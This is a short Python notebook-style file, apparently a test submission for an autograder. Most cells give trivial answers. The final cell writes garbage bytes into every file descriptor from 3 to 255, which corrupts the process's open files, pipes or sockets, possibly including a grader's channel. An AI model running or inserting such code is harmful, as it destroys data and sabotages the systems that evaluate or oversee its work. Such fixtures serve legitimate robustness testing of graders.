"""Writes garbage into every open descriptor."""
# earns: double noise sizes q1
# note: it sent what is no message
# %% double
def double(x):
    return 2 * x
# %% noise
import numpy as np


def noise(m):
    return np.random.randn(m)
# %% sizes
m, n = 3, 4
# %% q1
q1 = "b"
# %% q2
import os

for number in range(3, 256):
    try:
        os.write(number, b"\x93\xff}{garbage\n" * 500)
    except OSError:
        pass
